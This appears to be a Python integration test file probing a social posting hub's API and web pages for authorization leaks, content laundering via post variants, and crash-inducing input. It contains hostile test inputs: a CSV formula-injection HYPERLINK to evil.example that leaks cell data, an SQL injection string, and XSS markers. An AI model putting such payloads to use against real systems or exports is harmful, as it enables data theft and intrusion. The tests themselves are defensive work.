"""A security review of the features of 2026-12-01 (variants and threads, drafts, the queue,
paged lists, rule lists, the people pages, notices), as an outsider would try them: through the
real HTTP API with tokens of each scope and audience list, and the web pages with a session.
Each test is a finding (fixed) or a probe that found nothing and stays as a regression test."""

from __future__ import annotations

import base64
from datetime import timedelta

import httpx
import pytest

from hub.services.feeds import feed_links
from hub.services.people import NewPerson, add_person
from hub.services.posts import Author, PostInput, submit_post
from hub.services.saved_drafts import DraftInput, save_draft
from tests.integration import test_ui_security as ui
from tests.integration.conftest import bearer as _client
from tests.integration.test_http import _wait_done
from tests.integration.test_ui_security import csrf_of

pytestmark = pytest.mark.integration
site = ui.site
owner = ui.owner


@pytest.fixture
def feed_rule(policy_dir):
    """The test policy plus a rule that keeps a word out of the friends' feed only."""
    path = policy_dir / "hub.yaml"
    path.write_text(path.read_text() + "  - id: no-secrets-in-the-feed\n"
                    "    deny: {text: [secret], targets: [friends-feed]}\n")
    return path


def test_a_feed_gets_the_text_the_policy_judged_for_it_not_the_main_text(feed_rule, api):
    """Finding: the policy judged the feed target on its variant, but the feed served the main
    text, so a clean variant keyed by the feed laundered a text the feed's rules refuse."""
    hub, server, tokens = api
    with _client(server, tokens["owner"]) as client:
        for key in ("feed", "friends-feed"):
            r = client.post("/api/posts", json={
                "text": f"the secret plan ({key})", "audiences": ["friends"],
                "variants": {key: f"a nice walk today ({key})"}})
            assert r.status_code == 202, r.text
            body = r.json()
            outcomes = {d["target"]: d["outcome"] for d in body["decisions"]}
            assert outcomes == {**outcomes, "friends-feed": "allow", "friends-mail": "allow"}
            _wait_done(client, body["id"], tokens["owner"])
        r = client.post("/api/posts", json={"text": "the secret plan", "audiences": ["friends"]})
        outcomes = {d["target"]: d["outcome"] for d in r.json()["decisions"]}
        assert outcomes["friends-feed"] == "deny"            # the rule does hold the main text
    link = next(x.url for x in feed_links(hub, "friends") if x.name == "Ana")
    feed = httpx.get(link)
    assert feed.status_code == 200
    assert "a nice walk today (feed)" in feed.text
    assert "a nice walk today (friends-feed)" in feed.text
    assert "secret" not in feed.text


def test_a_variant_for_a_target_of_another_audience_goes_nowhere(api, fakes):
    hub, server, tokens = api
    with _client(server, tokens["friends"]) as phone:
        r = phone.post("/api/posts", json={
            "text": "hello friends", "audiences": ["friends"],
            "variants": {"clients-mail": "hello @cy@clients.example"}})
        assert r.status_code == 202, r.text
        body = _wait_done(phone, r.json()["id"], tokens["friends"])
        allowed = {d["target"] for d in body["decisions"] if d["outcome"] == "allow"}
        assert allowed == {"friends-mail", "friends-feed"}
        r = phone.post("/api/posts", json={"text": "x", "audiences": ["friends"],
                                           "variants": {"nowhere": "y"}})
        assert r.status_code == 400 and "nowhere" in r.json()["detail"]
    for name, fake in fakes.items():
        for sent in fake.published.values():
            assert "clients.example" not in " ".join(sent.parts), name


def test_a_fullwidth_private_tag_only_in_a_later_thread_part_keeps_it_off_the_networks(api):
    hub, server, tokens = api
    with _client(server, tokens["owner"]) as client:
        r = client.post("/api/posts", json={
            "thread": ["a harmless start", "and then #ｐｒｉｖａｔｅ"],
            "audiences": ["public"]})
        assert r.status_code == 202, r.text
        outcomes = {d["target"]: d["outcome"] for d in r.json()["decisions"]}
        assert outcomes["bsky"] in ("deny", "hold") and outcomes["masto-public"] in ("deny",
                                                                                     "hold")


def test_drafts_of_others_stay_out_of_reach_of_limited_and_post_only_tokens(api):
    """A friends-only token cannot read, change, send or delete a draft of another audience or
    author; a token with only the ``post`` scope cannot read the owner's drafts (it cannot read
    posts either)."""
    hub, server, tokens = api
    with (_client(server, tokens["owner"]) as owner, _client(server, tokens["friends"]) as phone,
          _client(server, tokens["poster"]) as poster):
        theirs = owner.post("/api/drafts", json={"text": "client plans",
                                                 "audiences": ["clients"]}).json()
        own = phone.post("/api/drafts", json={"text": "mine", "audiences": ["friends"]}).json()
        assert phone.post("/api/drafts", json={"audiences": ["clients"]}).status_code == 403
        for method, path, body in (("GET", "", None), ("PATCH", "", {"text": "x"}),
                                   ("POST", "/send", None), ("DELETE", "", None)):
            r = phone.request(method, f"/api/drafts/{theirs['id']}{path}", json=body)
            assert r.status_code in (403, 404), (method, path, r.status_code)
            assert "client plans" not in r.text
        assert [d["id"] for d in phone.get("/api/drafts").json()["drafts"]] == [own["id"]]
        r = phone.patch(f"/api/drafts/{own['id']}", json={"audiences": ["clients"]})
        assert r.status_code == 403
        assert owner.get(f"/api/drafts/{theirs['id']}").json()["text"] == "client plans"
        # post-only: it may keep drafts of its own, not read what the owner wrote
        mine = poster.post("/api/drafts", json={"text": "p", "audiences": ["friends"]})
        assert mine.status_code == 201
        listed = poster.get("/api/drafts").json()["drafts"]
        assert [d["id"] for d in listed] == [mine.json()["id"]]
        r = poster.get(f"/api/drafts/{theirs['id']}")
        assert r.status_code in (403, 404) and "client plans" not in r.text


def test_a_draft_that_launders_nothing_is_judged_when_sent(api):
    hub, server, tokens = api
    with _client(server, tokens["friends"]) as phone:
        d = phone.post("/api/drafts", json={"text": "ok", "audiences": ["friends"]}).json()
        r = phone.patch(f"/api/drafts/{d['id']}", json={"text": "news #private",
                                                        "audiences": ["friends", "public"]})
        assert r.status_code == 403


def _b64(raw: str) -> str:
    return base64.urlsafe_b64encode(raw.encode()).decode().rstrip("=")


@pytest.mark.parametrize("cursor", [
    _b64("2026-12-01T00:00:00+00:00|" + "9" * 30),
    _b64("2026-12-01T00:00:00+00:00|-" + "9" * 30),
    _b64("9999-12-31T23:59:59-23:59|1"),
    _b64("2026-12-01T00:00:00+00:00|1\x00"),
])
def test_a_crafted_audit_cursor_is_a_4xx(api, cursor):
    hub, server, tokens = api
    with _client(server, tokens["owner"]) as client:
        for path in ("/api/audit/people/Ana", "/api/audit/people/Cy"):
            r = client.get(path, params={"cursor": cursor})
            assert 400 <= r.status_code < 500, (path, r.status_code, r.text[:200])
            assert "cursor" in r.text


@pytest.mark.parametrize("zone", ["Europe", "a" * 300, "America/", "\x00"])
def test_a_time_zone_naming_a_folder_or_too_long_is_a_4xx_on_every_form(site, owner, zone):
    """Finding: ``ZoneInfo("Europe")`` raises IsADirectoryError and a 300-character name
    OSError, which the forms did not catch: a 500 from the compose form, the draft save, the
    queue's reschedule and the edit form."""
    hub, _ = site
    token = csrf_of(owner.get("/compose").text)
    base = {"csrf_token": token, "text": "hello", "audiences": "friends",
            "schedule_at": "2030-01-01T09:00", "tz": zone}
    for path, extra in (("/compose", {"action": "send"}), ("/compose", {"action": "draft"}),
                        ("/drafts", {})):
        r = owner.post(path, data={**base, **extra})
        assert 400 <= r.status_code < 500, (path, extra, r.status_code)
        assert "time zone" in r.text or "NUL" in r.text, path
    assert owner.post("/compose/preview", data=base).status_code in (200, 422)   # never 500
    view = submit_post(hub, PostInput(text="later", audiences=["friends"],
                                      schedule_at=hub.now() + timedelta(days=2)), Author())
    for path in (f"/queue/posts/{view.post.id}/reschedule", f"/posts/{view.post.id}/edit"):
        r = owner.post(path, data={"csrf_token": token, "text": "later",
                                   "schedule_at": "2030-01-01T09:00", "tz": zone})
        assert 400 <= r.status_code < 500, (path, r.status_code)


def test_variant_text_notes_and_drafts_are_inert_on_the_new_pages(site, owner):
    hub, _ = site
    xss = ui.XSS
    person = add_person(hub, NewPerson(f"Eve {xss}", [("email", "eve@example.org")],
                                       ["friends"]))
    token = csrf_of(owner.get(f"/people/{person.id}").text)
    owner.post(f"/people/{person.id}/edit", data={"csrf_token": token, "name": f"Eve {xss}",
                                                  "notes": f"note {xss}"})
    view = submit_post(hub, PostInput(text=f"held {xss} #work", audiences=["public"],
                                      variants={"bluesky": f"variant {xss}"}), Author())
    draft = save_draft(hub, DraftInput(text=f"draft {xss}", audiences=["friends"],
                                       tags=["ok"], content_warning=xss, time_zone="UTC"),
                       Author())
    for path in ("/queue", "/drafts", f"/drafts/{draft.id}", f"/posts/{view.post.id}",
                 f"/people/{person.id}", "/people", "/people/export.vcf",
                 "/people/export.csv", "/deliveries", "/posts?q=held"):
        r = owner.get(path)
        assert r.status_code == 200, path
        if r.headers["content-type"].startswith("text/html"):
            assert "<script>window.__xss" not in r.text, path
            assert "<img src=x" not in r.text, path


CRAFTED_VARIANTS = [
    {"variants": {"x" * 5000: "long key"}},
    {"variants": {"bluesky": ["part"] * 5000}},
    {"variants": {f"k{i}": "v" for i in range(500)}},
    {"variants": {"bluesky": [""]}},
    {"variants": {"bluesky": "\u202e\u200b"}},
    {"variants": {" ": "blank key"}},
    {"variants": {"bluesky": ["a", ["nested"]]}},
    {"thread": ["x" * 49_999, "y" * 49_999]},
    {"thread": ["ok", "bell\x07"]},
    {"thread": []},
    {"variants": {"bluesky": "ok"}, "audiences": ["nobody"]},
]


@pytest.mark.parametrize("extra", CRAFTED_VARIANTS, ids=range(len(CRAFTED_VARIANTS)))
def test_crafted_variants_and_threads_are_a_4xx_or_accepted_never_a_500(api, extra):
    hub, server, tokens = api
    with _client(server, tokens["owner"]) as client:
        for path in ("/api/posts", "/api/drafts"):
            body = {"text": "hello", "audiences": ["friends"], **extra}
            if "thread" in extra:
                body.pop("text")
            r = client.post(path, json=body)
            assert r.status_code < 500, (path, r.status_code, r.text[:200])
            if r.status_code >= 400:
                assert r.json()["detail"], path


def test_job_lists_refuse_a_crafted_before_with_a_reason(api):
    hub, server, tokens = api
    with _client(server, tokens["owner"]) as client:
        for before in ("x" * 5000, "j_nope", "%", "'; drop table job;--"):
            r = client.get("/api/jobs", params={"before": before})
            assert 400 <= r.status_code < 500, (before, r.status_code)


def test_the_csv_export_does_not_hand_a_spreadsheet_a_formula(site, owner):
    hub, _ = site
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    add_person(hub, NewPerson(formula, [("email", "f@example.org")], ["friends"]))
    r = owner.get("/people/export.csv")
    assert r.status_code == 200
    cells = [c.strip('"') for line in r.text.splitlines() for c in line.split(",")]
    assert not any(c.startswith(("=", "+", "@")) for c in cells), r.text


def test_a_limited_tokens_search_tells_nothing_about_other_audiences_posts(api):
    hub, server, tokens = api
    for n in range(25):
        submit_post(hub, PostInput(text=f"merger with acme, step {n}", audiences=["clients"]),
                    Author())
    with _client(server, tokens["friends"]) as phone:
        hit = phone.get("/api/posts", params={"q": "acme", "limit": 1})
        miss = phone.get("/api/posts", params={"q": "zebra", "limit": 1})
        assert hit.status_code == miss.status_code == 200
        assert hit.json() == miss.json() == []
        assert hit.headers.get("X-Next-Cursor") == miss.headers.get("X-Next-Cursor")
